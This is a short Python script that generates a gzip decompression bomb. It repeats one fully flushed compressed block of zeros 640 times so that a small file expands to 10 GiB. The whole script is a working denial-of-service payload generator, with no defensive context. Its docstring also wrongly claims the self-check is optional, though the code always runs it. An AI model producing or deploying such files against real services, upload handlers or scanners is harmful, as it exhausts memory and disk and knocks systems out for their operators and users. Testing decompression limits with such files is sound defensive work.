"""Writes a gzip stream of 10 GiB of zeros to argv[1] without compressing 10 GiB: one 16 MiB
block of zeros compressed with a full flush (which resets the compressor, so every such block
compresses to the same bytes) is repeated 640 times, then the end of the stream and the
trailer (the CRC-32 of 10 GiB of zeros, and the size mod 2^32). With argv[2] == "check" a
small stream built the same way is first checked with gzip.decompress."""
import gzip
import sys
import zlib

BLOCK = 16 << 20


def bomb(blocks):
    zeros = bytes(BLOCK)
    first = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = first.compress(zeros) + first.flush(zlib.Z_FULL_FLUSH)
    again = first.compress(zeros) + first.flush(zlib.Z_FULL_FLUSH)
    assert again == segment, "a full flush should make every block compress the same"
    end = first.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(blocks):
        crc = zlib.crc32(zeros, crc)
    size = blocks * BLOCK
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return (header + segment * blocks + end + crc.to_bytes(4, "little")
            + (size % 2**32).to_bytes(4, "little"))


small = bomb(3)
assert gzip.decompress(small) == bytes(3 * BLOCK), "the construction makes a valid gzip stream"
with open(sys.argv[1], "wb") as out:
    out.write(bomb(640))
